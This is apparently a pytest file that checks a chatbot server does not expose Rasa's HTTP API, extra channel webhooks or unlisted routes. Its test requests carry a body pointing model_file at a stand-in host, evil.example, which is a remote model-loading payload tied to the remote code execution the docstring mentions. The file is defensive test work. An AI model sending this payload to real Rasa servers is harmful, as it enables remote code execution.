"""Threat: Rasa's HTTP API, which reads every conversation, loads and trains models, and had remote code execution."""

from __future__ import annotations

import pytest

from tests.toy_app import ToyServer

API = [
    ("GET", "/version"),
    ("GET", "/status"),
    ("GET", "/domain"),
    ("GET", "/conversations/ada/tracker"),
    ("POST", "/conversations/ada/tracker/events"),
    ("PUT", "/conversations/ada/tracker/events"),
    ("GET", "/conversations/ada/story"),
    ("POST", "/conversations/ada/execute"),
    ("POST", "/conversations/ada/trigger_intent"),
    ("POST", "/conversations/ada/predict"),
    ("POST", "/conversations/ada/messages"),
    ("POST", "/model/train"),
    ("POST", "/model/test/stories"),
    ("POST", "/model/test/intents"),
    ("POST", "/model/predict"),
    ("POST", "/model/parse"),
    ("PUT", "/model"),
    ("DELETE", "/model"),
]
OTHERS = """facebook slack telegram mattermost twilio twilio_voice callback botframework rocketchat webexteams hangouts
console cmdline socketio rasa sockets chat vier_cvg"""


@pytest.mark.parametrize("method, path", API)
@pytest.mark.parametrize("query", ["", "?token=anything", "?include_events=ALL"])
def test_api(toy: ToyServer, method: str, path: str, query: str) -> None:
    """Rasa's API is not there, whatever token is sent."""
    response = toy.call(method, path + query, json={"model_file": "http://evil.example/model.tar.gz"})

    assert response.status_code == 404
    assert response.json()["error"]["message"]


@pytest.mark.parametrize("channel", OTHERS.split())
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_channels(toy: ToyServer, channel: str, method: str) -> None:
    """No channel is served but our own; Slack's only if it is set up."""
    assert toy.call(method, f"/webhooks/{channel}/webhook", json={}).status_code == 404


def test_streaming(toy: ToyServer) -> None:
    """What hangs in Rasa's own REST channel, `?stream=true`, changes nothing in ours."""
    body = {"sender": "ada", "message": "What is Type 1?"}

    replies = [toy.call("POST", f"/webhooks/rest/webhook{query}", json=body).json() for query in ("", "?stream=true")]

    assert replies[0] == replies[1]


def test_routes(toy: ToyServer) -> None:
    """Everything that is served is known: a new route has to be weighed here."""
    routes = {f"/{route.path}" for route in toy.app.router.routes}

    assert {route for route in routes if not route.startswith(("/webhooks/web", "/webhooks/rest", "/api/", "/widget/"))} <= {
        "/",
        "/alive",
        "/<name:[a-z-]+\\.(?:js|css|svg)>",
        "/answers/<answer_id:[0-9a-f]{24}>",
        "/favicon.ico",
        "/health",
        "/metrics",
    }
